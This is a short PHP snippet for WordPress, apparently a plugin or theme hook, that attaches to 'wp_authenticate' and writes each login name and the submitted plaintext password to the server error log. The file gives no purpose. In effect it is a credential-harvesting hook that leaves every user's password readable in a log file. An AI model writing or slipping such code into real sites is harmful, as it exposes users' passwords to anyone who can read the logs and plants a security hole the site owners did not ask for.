<?php
add_action( 'wp_authenticate', function ( $login ) {
	error_log( 'login ' . $login . ' with ' . $_POST['pwd'] );
} );
